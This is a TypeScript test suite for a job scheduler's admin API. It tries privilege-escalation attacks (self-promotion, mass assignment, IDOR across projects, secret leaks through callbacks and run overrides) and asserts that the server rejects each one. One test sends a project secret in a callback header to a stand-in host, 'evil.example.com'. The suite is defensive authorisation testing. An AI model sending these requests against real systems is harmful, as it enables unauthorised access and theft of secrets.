/** Attacks by callers who are somebody, on what is not theirs. */
import { expect } from 'vitest';
import { PROJECT_ROLES } from '@crony/admin/auth/permissions';
import { minimalJob, type Answer } from '../api-fixture.js';
import { tokenWith, userWith } from '../callers.js';
import { fill, freshJob, ROUTE_REQUESTS } from '../route-requests.js';
import type { Attack, World } from './attack.js';

const notThere = (answer: Answer, code: string): void => expect(answer.body).toMatchObject({ status: 404, code });
const forbidden = (answer: Answer): void => expect(answer.body).toMatchObject({ status: 403, code: 'forbidden' });

/** The id in the path of a fresh thing in `alpha`. */
const idOf = async ({ api }: World, operation: string): Promise<string> =>
  (await ROUTE_REQUESTS[operation]!(api, 'alpha')).path![0]!;

export const PRIVILEGE_ATTACKS: Attack[] = [
  {
    name: 'Promoting oneself: to cluster administrator, to another role, into another project',
    async attempt({ api }) {
      for (const role of PROJECT_ROLES) {
        const one = await userWith(api, { alpha: role });
        forbidden(await one.request('PATCH', `/api/v1/users/${one.user.id}`, { body: { role: 'admin' } }));
        forbidden(await one.request('POST', '/api/v1/users', { body: { name: `x-${role}`, role: 'admin' } }));
        forbidden(await one.request('POST', `/api/v1/users/${one.user.id}/reset-password`, { body: {} }));
        const body = { user: one.user.name, role: 'admin' };
        const elsewhere = await one.request('PUT', '/api/v1/projects/beta/members', { body });
        if (role === 'admin') notThere(elsewhere, 'project_not_found');
        else {
          forbidden(elsewhere);
          forbidden(await one.request('PUT', '/api/v1/projects/alpha/members', { body }));
        }
      }
    },
  },
  {
    name: 'Mass assignment: fields that a body should not have',
    async attempt({ api }) {
      const attempts: [string, string, Record<string, unknown>][] = [
        ['POST', '/api/v1/users', { name: 'x', passwordHash: 'x' }],
        ['POST', '/api/v1/users', { name: 'x', oidcSubject: 'x' }],
        ['POST', '/api/v1/users', { name: 'x', id: 'x' }],
        ['POST', '/api/v1/tokens', { name: 'x', role: 'viewer', hash: 'x' }],
        ['POST', '/api/v1/tokens', { name: 'x', role: 'viewer', userId: 'x' }],
        ['POST', '/api/v1/jobs', minimalJob({ id: 'x' })],
        ['POST', '/api/v1/jobs', minimalJob({ ownerNode: 'x', epoch: 9 })],
        ['POST', '/api/v1/projects', { name: 'x', signingSecretCurrent: 'x' }],
        ['PUT', '/api/v1/session/password', { current: 'x', password: 'long enough', userId: 'x' }],
        ['POST', '/api/v1/session', { name: 'x', password: 'x', role: 'admin' }],
      ];
      const admin = await userWith(api, {}, { role: 'admin' });
      for (const [method, path, body] of attempts) {
        const answer = await admin.request(method, path, { body });
        expect(answer.body, `${method} ${path} ${JSON.stringify(body)}`).toMatchObject({ code: 'invalid_input' });
      }
    },
  },
  {
    name: 'A token that may do more than its maker, or makes others',
    async attempt({ api }) {
      const viewer = await userWith(api, { alpha: 'viewer' });
      for (const role of ['operator', 'editor', 'admin', 'cluster_admin']) {
        forbidden(await viewer.request('POST', '/api/v1/tokens', { body: { name: 'x', role } }));
      }
      const token = await tokenWith(api, { role: 'cluster_admin' });
      forbidden(await token.request('POST', '/api/v1/tokens', { body: { name: 'x', role: 'viewer' } }));
      const body = { current: 'x', password: 'long enough' };
      forbidden(await token.request('PUT', '/api/v1/session/password', { body }));
      // Whatever a row says: it counts for no more than its owner has.
      const lying = await tokenWith(api, { userId: viewer.user.id, role: 'cluster_admin' });
      forbidden(await lying.request('GET', '/api/v1/users'));
      forbidden(await lying.request('POST', '/api/v1/jobs', { body: minimalJob({ project: 'alpha' }) }));
    },
  },
  {
    name: 'IDOR: ids of another project’s jobs, runs, output, backfills',
    async attempt(world) {
      const mallory = await userWith(world.api, { beta: 'admin' });
      for (const [operation, method, path, code] of [
        ['getJob', 'GET', '/jobs/{id}', 'job_not_found'],
        ['editJob', 'PATCH', '/jobs/{id}', 'job_not_found'],
        ['deleteJob', 'DELETE', '/jobs/{id}', 'job_not_found'],
        ['runJob', 'POST', '/jobs/{id}/run', 'job_not_found'],
        ['pauseJob', 'POST', '/jobs/{id}/pause', 'job_not_found'],
        ['resumeJob', 'POST', '/jobs/{id}/resume', 'job_not_found'],
        ['listBackfills', 'GET', '/jobs/{id}/backfills', 'job_not_found'],
        ['getRun', 'GET', '/runs/{id}', 'run_not_found'],
        ['watchRun', 'GET', '/runs/{id}/events', 'run_not_found'],
        ['cancelRun', 'POST', '/runs/{id}/cancel', 'run_not_found'],
        ['rerunRun', 'POST', '/runs/{id}/rerun', 'run_not_found'],
        ['getBackfill', 'GET', '/backfills/{id}', 'backfill_not_found'],
        ['cancelBackfill', 'POST', '/backfills/{id}/cancel', 'backfill_not_found'],
      ] as const) {
        const url = fill(`/api/v1${path}`, { path: [await idOf(world, operation)] });
        const body = operation === 'editJob' ? { description: 'mine now' } : undefined;
        notThere(await mallory.request(method, url, { body }), code);
      }
    },
  },
  {
    name: 'Reading or setting another project’s secrets, signing secret, members',
    async attempt({ api }) {
      const mallory = await userWith(api, { beta: 'admin' });
      const secret = '/api/v1/projects/alpha/signing-secret';
      notThere(await mallory.request('GET', secret), 'project_not_found');
      notThere(await mallory.request('POST', `${secret}/next`), 'project_not_found');
      notThere(await mallory.request('GET', '/api/v1/projects/alpha/secrets'), 'project_not_found');
      notThere(await mallory.request('GET', '/api/v1/projects/alpha/members'), 'project_not_found');
      const put = await mallory.request('PUT', '/api/v1/projects/alpha/secrets/KEY', { body: { value: 'x' } });
      notThere(put, 'project_not_found');
      // Its own editors do not see the signing secret either, and nobody a secret's value.
      const editor = await userWith(api, { alpha: 'editor' });
      forbidden(await editor.request('GET', secret));
      await api.request('PUT', '/api/v1/projects/alpha/secrets/KEY', { body: { value: 'a-hidden-value' } });
      const listed = await api.request('GET', '/api/v1/projects/alpha/secrets');
      expect(listed.body.items).toHaveLength(1);
      expect(JSON.stringify(listed.body)).not.toContain('a-hidden-value');
    },
  },
  {
    name: 'Using another project’s secret in a job of one’s own',
    async attempt({ api }) {
      await api.request('PUT', '/api/v1/projects/alpha/secrets/KEY', { body: { value: 'a-hidden-value' } });
      const mallory = await userWith(api, { beta: 'editor' });
      const callback = { type: 'http', url: 'http://evil.example.com/', headers: { key: '{{secrets.KEY}}' } };
      const answer = await mallory.request('POST', '/api/v1/jobs', { body: minimalJob({ project: 'beta', callback }) });
      expect(answer.body.errors).toEqual([expect.objectContaining({ path: 'callback.headers.key' })]);
    },
  },
  {
    name: 'Having a secret sent elsewhere by the overrides of a run, as one who may only run jobs',
    async attempt({ api }) {
      for (const key of ['KEY', 'OWN']) {
        await api.request('PUT', `/api/v1/projects/alpha/secrets/${key}`, { body: { value: 'a-hidden-value' } });
      }
      const callback = { type: 'http', url: 'http://a.internal/', headers: { key: '{{secrets.OWN}}' } };
      const { body: job } = await api.request('POST', '/api/v1/jobs', {
        body: minimalJob({ project: 'alpha', callback }),
      });
      const run = `/api/v1/jobs/${job.id}/run`;
      const operator = await userWith(api, { alpha: 'operator' });
      for (const body of [{ body: '{{secrets.KEY}}' }, { headers: { 'x-a': 'a {{secrets.KEY}}' } }]) {
        forbidden(await operator.request('POST', run, { body }));
        const editor = await userWith(api, { alpha: 'editor' });
        expect((await editor.request('POST', run, { body })).status).toBe(201);
      }
      for (const body of [{}, { body: '{{secrets.OWN}}' }, { body: '{{{{secrets.KEY}}' }]) {
        expect((await operator.request('POST', run, { body })).status).toBe(201);
      }
    },
  },
  {
    name: 'Moving a job into a project, or out of one, where one may not write',
    async attempt({ api }) {
      const mallory = await userWith(api, { beta: 'admin', alpha: 'operator' });
      const [own, theirs] = [await freshJob(api, 'beta'), await freshJob(api, 'alpha')];
      forbidden(await mallory.request('PATCH', `/api/v1/jobs/${own}`, { body: { project: 'alpha' } }));
      forbidden(await mallory.request('PATCH', `/api/v1/jobs/${theirs}`, { body: { project: 'beta' } }));
      const hidden = await mallory.request('PATCH', `/api/v1/jobs/${own}`, { body: { project: 'default' } });
      const nowhere = await mallory.request('PATCH', `/api/v1/jobs/${own}`, { body: { project: 'nowhere' } });
      expect(hidden.status).toBe(422);
      expect(JSON.stringify(hidden.body).replaceAll('default', 'nowhere')).toBe(JSON.stringify(nowhere.body));
      expect((await api.store.jobs.getMany([own, theirs])).map(({ project }) => project).sort()).toEqual([
        'alpha',
        'beta',
      ]);
    },
  },
  {
    name: 'Hiding one foreign job among one’s own in a bulk request',
    async attempt({ api }) {
      const mallory = await userWith(api, { beta: 'editor', alpha: 'viewer' });
      const items = ['beta', 'alpha', 'default'].map((project) => minimalJob({ name: `in-${project}`, project }));
      const { body } = await mallory.request('POST', '/api/v1/jobs/bulk', { body: { items } });
      expect(body.items.map((item) => item.status)).toEqual([201, 403, 422]);
      expect(await api.store.jobs.count({ projects: ['alpha', 'default'] })).toEqual({ total: 0, enabled: 0 });
    },
  },
  {
    name: 'Asking for more by filters, counts and cursors of lists',
    async attempt({ api }) {
      const theirs = await freshJob(api, 'alpha');
      for (let i = 0; i < 3; i++) await freshJob(api, 'alpha');
      const own = await freshJob(api, 'beta');
      const mallory = await userWith(api, { beta: 'viewer' });
      const get = (path: string): Promise<Answer> => mallory.request('GET', `/api/v1${path}`);
      expect((await get('/jobs')).body.items.map(({ id }) => id)).toEqual([own]);
      expect((await get('/jobs?project=alpha')).body.items).toEqual([]);
      expect((await get(`/runs?jobId=${theirs}`)).body.items).toEqual([]);
      expect((await get('/runs?project=alpha')).body.items).toEqual([]);
      expect((await get('/stats')).body).toMatchObject({ jobs: { total: 1 } });
      expect((await get('/stats?project=alpha')).body).toMatchObject({ jobs: { total: 0 } });
      const { body } = await api.request('GET', '/api/v1/jobs?project=alpha&limit=1');
      const { nextCursor } = body as unknown as { nextCursor: string };
      expect((await get(`/jobs?cursor=${nextCursor}`)).body.items.map(({ id }) => id)).toEqual([own]);
      expect((await get('/projects')).body.items.map(({ name }) => name)).toEqual(['beta']);
      forbidden(await get('/targets'));
      forbidden(await get('/users'));
    },
  },
  {
    name: 'Getting at a run by its id as Idempotency-Key',
    async attempt(world) {
      const run = await idOf(world, 'getRun');
      const mallory = await userWith(world.api, { beta: 'operator' });
      const job = await freshJob(world.api, 'beta');
      const answer = await mallory.request('POST', `/api/v1/jobs/${job}/run`, { headers: { 'idempotency-key': run } });
      expect(answer.body).toMatchObject({ status: 409, code: 'idempotency_key_reused' });
      expect(JSON.stringify(answer.body)).not.toMatch(/alpha|job-/);
    },
  },
  {
    name: 'Repeating a run whose job has moved to another project since',
    async attempt(world) {
      const { api } = world;
      const run = await idOf(world, 'rerunRun');
      const { jobId } = (await api.store.runs.get(run))!.run;
      const operator = await userWith(api, { alpha: 'operator' });
      await api.request('PATCH', `/api/v1/jobs/${jobId}`, { body: { project: 'beta' } });
      notThere(await operator.request('POST', `/api/v1/runs/${run}/rerun`), 'job_not_found');
      expect((await operator.request('GET', `/api/v1/runs/${run}`)).status).toBe(200); // it was alpha's, and stays
    },
  },
  {
    name: 'Watching on after a role was taken away',
    async attempt(world) {
      const { api } = world;
      const run = await idOf(world, 'getRun');
      const watcher = await userWith(api, { alpha: 'viewer' });
      const response = await api.app.request(`http://localhost/api/v1/runs/${run}/events`, {
        headers: watcher.headers,
      });
      expect(response.status).toBe(200);
      await api.store.members.remove('alpha', watcher.user.id);
      world.pass(10_001);
      // The run is open, so only this ends the stream.
      expect(await response.text()).toMatch(/event: end\ndata: {}\n\n$/);
    },
  },
];
